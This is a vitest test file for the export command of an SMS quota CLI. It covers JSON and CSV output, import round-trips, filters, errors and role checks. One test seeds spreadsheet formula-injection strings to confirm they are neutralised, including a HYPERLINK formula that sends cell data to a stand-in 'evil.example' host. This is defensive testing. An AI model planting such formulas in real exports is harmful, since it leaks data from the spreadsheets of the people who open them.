/** The command `export`, and that the import reads what it writes. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, expect, test } from 'vitest'
import { serve } from '../support/listening.ts'
import { startService } from '../support/service.ts'
import { run as runCommand } from '../support/terminal.ts'

const service = await startService()
const url = await service.app.listen({ port: 0 })
const folder = await mkdtemp(join(tmpdir(), 'sms-quota-export-'))
afterAll(() => rm(folder, { recursive: true }))

const run = (words: string[], token = service.adminToken) =>
  runCommand(words, { env: { SMS_QUOTA_URL: url, SMS_QUOTA_TOKEN: token } })

const quotas = [
  { user_id: 7, external_ref: 'A', limit: 5, name: 'Two\nlines, "quoted"', countries: ['AT', 'DE'], alert_at: [50] },
  { user_id: 8, external_ref: 'B', limit: null, metadata: { contract: 'K-1' } },
]
for (const body of quotas) await service.call('POST', '/api/sms/admin/quota', { body })

test('writes the lines of the API, or columns of CSV that the import takes', async () => {
  const lines = await run(['export', 'quotas'])
  expect(lines).toMatchObject({ code: 0, stderr: '' })
  const records = lines.stdout
    .trimEnd()
    .split('\n')
    .map(line => JSON.parse(line))
  expect(records).toMatchObject([quotas[0], quotas[1]])

  const fields = 'user_id,external_ref,limit,name,countries,alert_at,metadata,expires_at'
  const csv = await run(['export', 'quotas', '--format', 'csv', '--fields', fields])
  expect(csv).toEqual({
    code: 0,
    stdout: `${fields}
7,A,5,"Two
lines, ""quoted""",AT DE,50,{},null
8,B,null,null,null,80 100,"{""contract"":""K-1""}",null
`,
    stderr: '',
  })
  const file = join(folder, 'quotas.csv')
  await writeFile(file, csv.stdout)
  expect((await run(['import', file])).stdout).toBe('created 0, updated 0, unchanged 2, refused 0\n')
  const ofOne = await run(['export', 'quotas', '--format', 'csv', '--fields', 'user_id,limit', '--filter', 'user_id=8'])
  expect(ofOne.stdout).toBe('user_id,limit\n8,null\n')
  await service.call('PUT', '/api/sms/admin/users/8/profile', { body: { ref: 'k=8' } })
  const named = ['--format', 'csv', '--fields', 'user_ref,limit', '--filter', 'user_id=ref:k=8']
  expect((await run(['export', 'quotas', ...named])).stdout).toBe('user_ref,limit\nk=8,null\n')
  // What no import reads has an empty cell for null.
  const changes = ['export', 'audit', '--format', 'csv', '--fields', 'resource,action,before', '--filter', 'user_id=7']
  expect((await run(changes)).stdout).toBe('resource,action,before\nquota,created,\n')
})

test('texts of others are no formulas in CSV, and come back as they were', async () => {
  const names = [
    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    '+49 30 1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    "'=1",
    'a;=1',
    '-5',
  ]
  for (const [index, name] of names.entries()) {
    const body = { user_id: 20, external_ref: `${name[0]?.trim()}${index}`, limit: 5, name, metadata: { note: ';=1' } }
    expect((await service.call('POST', '/api/sms/admin/quota', { body })).status).toBe(201)
  }
  const fields = 'user_id,external_ref,limit,name,metadata'
  const csv = await run(['export', 'quotas', '--format', 'csv', '--fields', fields, '--filter', 'user_id=20'])
  const cells = (parse(csv.stdout) as string[][]).flat()
  expect(cells).toContain(`'${names[0]}`)
  expect(cells.filter(cell => /^[=+\-@\t\r]/.test(cell))).toEqual([])
  const file = join(folder, 'formulas.csv')
  await writeFile(file, csv.stdout)
  expect((await run(['import', file])).stdout).toBe(`created 0, updated 0, unchanged ${names.length}, refused 0\n`)
})

test('says what was wrong', async () => {
  const usage = (...args: string[]) =>
    run(['export', ...args]).then(({ code, stderr }) => [code, stderr.split('\n')[0]])
  expect(await usage('users')).toEqual([
    2,
    'sms-quota: WHAT is one of quotas, usage, denials, ledger, audit, not "users"',
  ])
  expect(await usage('usage', '--format', 'csv', '--fields', 'denied')).toEqual([
    2,
    expect.stringMatching(
      /^sms-quota: --fields has no "denied"; fields are user_id, user_ref, user_name, start, .*denied\.units, denied\.messages/,
    ),
  ])
  expect(await run(['export', 'usage', '--filter', 'status=active'])).toEqual({
    code: 2,
    stdout: '',
    stderr: expect.stringMatching(
      /^sms-quota: Invalid request:\n {2}status is unknown; accepted are user_id, from, to.*\n\(invalid_request, request .*\)\nThe export is not complete\.$/m,
    ),
  })
  const support = await service.token({ sub: 'sue', roles: ['sms-quota:support'] })
  expect(await run(['export', 'ledger'], support)).toEqual({
    code: 5,
    stdout: '',
    stderr: expect.stringMatching(
      /^sms-quota: the token does not allow this\nForbidden: An export needs a token with one of the roles .*auditor/,
    ),
  })
})

test('an answer that breaks off is reported, after what came of it', async () => {
  const at = await serve((_request, response) => {
    response.writeHead(200, { 'content-type': 'application/x-ndjson' })
    response.write('{"id":1}\n', () => response.destroy())
  })
  const env = { SMS_QUOTA_URL: at, SMS_QUOTA_TOKEN: service.adminToken }
  const { code, stdout, stderr } = await runCommand(['export', 'quotas'], { env })
  expect([code, stdout]).toEqual([4, '{"id":1}\n'])
  expect(stderr).toMatch(/^sms-quota: http\S+ cannot be reached: .*\nThe export is not complete\.\n$/)
})
